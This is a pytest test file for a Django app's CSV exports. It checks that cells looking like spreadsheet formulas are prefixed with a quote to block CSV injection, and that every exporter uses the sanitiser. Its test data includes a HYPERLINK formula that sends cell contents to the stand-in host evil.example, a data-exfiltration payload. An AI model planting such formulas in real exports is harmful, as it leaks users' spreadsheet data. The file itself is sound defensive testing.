"""CSV exports open as text in a spreadsheet, never as a formula (issue 10 point 11).

OWASP, "CSV Injection" (https://owasp.org/www-community/attacks/CSV_Injection): cells starting with `=`, `+`,
`-`, `@`, tab (0x09) or carriage return (0x0D) are prefixed with a single quote so the spreadsheet shows text."""

import csv
import io
import subprocess
from pathlib import Path

import pytest
from django.test import Client

from companies.models import Company
from lib.csvsafe import csv_safe
from tests.conftest import Tenant

FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"詳細")', "+1", "-2", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
ROOT = Path(__file__).resolve().parents[1]


@pytest.mark.parametrize("value", FORMULAS)
def test_a_formula_like_cell_becomes_text(value: str) -> None:
    assert csv_safe(value) == "'" + value


@pytest.mark.parametrize("value", ["伊藤 さくら", "", "a=b", "1+1", "sakura@example.jp", "'quoted", " =1"])
def test_ordinary_cells_are_left_as_they_are(value: str) -> None:
    assert csv_safe(value) == value


def csv_lines(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


@pytest.mark.django_db
@pytest.mark.parametrize("name", FORMULAS)
@pytest.mark.parametrize("path", ["/company/insights/export.csv", "/company/insights/report.csv?month=2026-10"])
def test_a_company_named_like_a_formula_exports_as_text(
    owner_client: Client, tenant: Tenant, name: str, path: str
) -> None:
    Company.objects.filter(pk=tenant.company.pk).update(name=name)

    response = owner_client.get(path)

    assert response.status_code == 200
    lines = csv_lines(response.content)
    assert lines[0][1] == "'" + name
    for cells in lines:
        assert not any(cell.startswith(("=", "@", "\t", "\r")) for cell in cells)


@pytest.mark.django_db
def test_the_kpi_figures_still_read_as_on_the_page(owner_client: Client) -> None:
    lines = csv_lines(owner_client.get("/company/insights/export.csv").content)

    assert lines[0] == ["企業", "株式会社テスト商事"]
    assert all(not cells[0].startswith("'") for cells in lines)


def test_every_csv_the_product_writes_passes_its_cells_through_csv_safe() -> None:
    """A new export that forgets `csv_safe` fails here. demo/ and bench/ write files to import, not to open."""
    tracked = subprocess.run(
        ["git", "ls-files", "--cached", "--others", "--exclude-standard", "*.py"],
        capture_output=True,
        text=True,
        check=True,
        cwd=ROOT,
    ).stdout.split()
    writers = [
        path
        for path in tracked
        if not path.startswith(("tests/", "bench/", "demo/", ".venv/"))
        and (ROOT / path).is_file()
        and "csv.writer(" in (ROOT / path).read_text(encoding="utf-8")
    ]

    assert writers, "no CSV export found: the search itself is broken"
    assert [path for path in writers if "csv_safe(" not in (ROOT / path).read_text(encoding="utf-8")] == []
